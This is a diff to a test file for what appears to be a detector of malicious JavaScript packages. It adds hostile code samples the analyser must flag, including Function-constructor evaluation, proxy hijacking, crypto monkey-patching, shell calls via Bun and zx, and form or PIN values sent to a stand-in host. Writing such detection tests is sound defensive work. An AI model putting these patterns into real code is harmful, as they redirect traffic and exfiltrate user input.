@@ -6,6 +6,7 @@ import { analyseProgram } from '../../../src/analyze/js/program.ts'
 import { harm } from '../exam/harm.ts'
 import { loaders } from '../exam/loaders.ts'
 import { stealers } from '../exam/stealers.ts'
+import { packagesIn } from '../exam/txtar.ts'
 import { wallets } from '../exam/wallets.ts'
 import { worms } from '../exam/worms.ts'
 import { incidents } from './incidents.ts'
@@ -79,6 +80,17 @@ const busy: readonly string[] = [
   `Object.defineProperty(Object.prototype, 'then', { get() {} })`,
   `text.replace(/0x[a-fA-F0-9]{40}/g, mine)`,
   `require('some-mailer').send({ to, bcc: 'a@mail.invalid' })`,
+  `[]['constructor']['constructor']('return 1')()`,
+  `const k = 'constructor'; [][k][k]('return 1')()`,
+  `process.env.HTTPS_PROXY = 'http://a.invalid'`,
+  `const { env } = process; env['http_' + 'proxy'] = 'http://a.invalid'`,
+  `const c = require('crypto'); c.createHmac = mine`,
+  `import * as c from 'crypto'; c.createHmac = mine`,
+  `Bun.$\`id\``,
+  `const { $ } = require('zx'); $\`id\``,
+  `new RTCPeerConnection({})`,
+  `document.querySelector('form').action = 'https://a.invalid/'`,
+  `document.title.href = 'https://a.invalid/?' + document.querySelector('#pin').value`,
   `const { launch } = require('some-browser'); launch({})`,
 ]
 for (const text of busy)
@@ -88,10 +100,12 @@ for (const text of busy)
 
 test('nothing is lost in what is taken for quiet: every file of every incident and of its honest likes', () => {
   let count = 0
+  const exams = ['second', 'third', 'fourth', 'fifth'].flatMap((exam) => packagesIn(`${exam}/hostile`))
+  const honestExams = ['second', 'third', 'fourth'].flatMap((exam) => packagesIn(`${exam}/honest`))
   const fixtures = [...techniques, ...incidents, ...harm, ...loaders, ...stealers, ...wallets, ...worms].flatMap(
     ({ hostile, honest }) => (honest ? [hostile, honest] : [hostile]),
   )
-  for (const { files } of fixtures) {
+  for (const { files } of [...fixtures, ...exams, ...honestExams]) {
     for (const [path, text] of Object.entries(files)) {
       const read = /\.[cm]?js$/u.test(path) ? readJs(text, path) : undefined
       const { program } = read?.isQuiet ? parseJs(text) : {}
